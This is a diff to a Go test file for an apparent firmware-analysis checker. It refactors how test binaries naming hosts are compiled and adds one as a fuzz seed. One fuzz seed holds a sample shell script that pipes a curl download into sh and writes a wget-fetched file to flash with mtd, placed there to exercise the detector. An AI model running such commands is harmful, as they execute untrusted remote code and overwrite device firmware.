@@ -17,6 +17,9 @@ import (
 func TestGolden(t *testing.T) { checktest.Golden(t, Check, service.Check) }
 
 func Fuzz(f *testing.F) {
+	if gcc, err := exec.LookPath("gcc"); err == nil {
+		f.Add(built(f, gcc))
+	}
 	checktest.Fuzz(f, Check, []byte("bootdelay=3\x00bootcmd=tftpboot 0x80000000 a; bootm\x00"), []byte("[keyring]\npath=/etc/rauc/k\n[system]\ncompatible=x\n"),
 		[]byte("#!/bin/sh\ncurl -k https://u:p@a.example:1/ | sh\nwget ftp://a.example/x; mtd -r write x y\n"))
 }
@@ -119,29 +122,33 @@ func TestBoot(t *testing.T) {
 	}
 }
 
-// A program that is started and names hosts, and a library that does.
-func TestProgram(t *testing.T) {
-	gcc := testkit.Tool(t, "gcc")
+// built compiles a text of hosts.
+func built(t testing.TB, gcc string, flags ...string) []byte {
+	t.Helper()
 	dir := t.TempDir()
-	src := filepath.Join(dir, "a.c")
+	src, bin := filepath.Join(dir, "a.c"), filepath.Join(dir, "a")
 	if err := os.WriteFile(src, []byte(`#include <stdio.h>
 int main(void) { puts("http://acs.exampletel.example:7547/cwmp"); puts("see http://www.gnu.org/licenses"); return puts("https://%s/x"); }
 `), 0o644); err != nil {
 		t.Fatal(err)
 	}
+	if out, err := exec.Command(gcc, append(flags, "-s", "-w", "-o", bin, src)...).CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	data, err := os.ReadFile(bin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
+
+// A program that is started and names hosts, and a library that does.
+func TestProgram(t *testing.T) {
+	gcc := testkit.Tool(t, "gcc")
 	tree := &checktest.Tree{}
 	tree.Add("fw/etc/inittab", 0o644, []byte("::respawn:/usr/sbin/a\n"))
-	for name, flags := range map[string][]string{"fw/usr/sbin/a": nil, "fw/usr/lib/b.so": {"-shared", "-fPIC"}} {
-		bin := filepath.Join(dir, "bin")
-		if out, err := exec.Command(gcc, append(flags, "-s", "-w", "-o", bin, src)...).CombinedOutput(); err != nil {
-			t.Fatalf("%v: %s", err, out)
-		}
-		data, err := os.ReadFile(bin)
-		if err != nil {
-			t.Fatal(err)
-		}
-		tree.Add(name, 0o755, data)
-	}
+	tree.Add("fw/usr/sbin/a", 0o755, built(t, gcc))
+	tree.Add("fw/usr/lib/b.so", 0o755, built(t, gcc, "-shared", "-fPIC"))
 	found := map[string]wardein.Finding{}
 	for _, f := range tree.Judge(t, Check, service.Check) {
 		found[f.Rule] = f
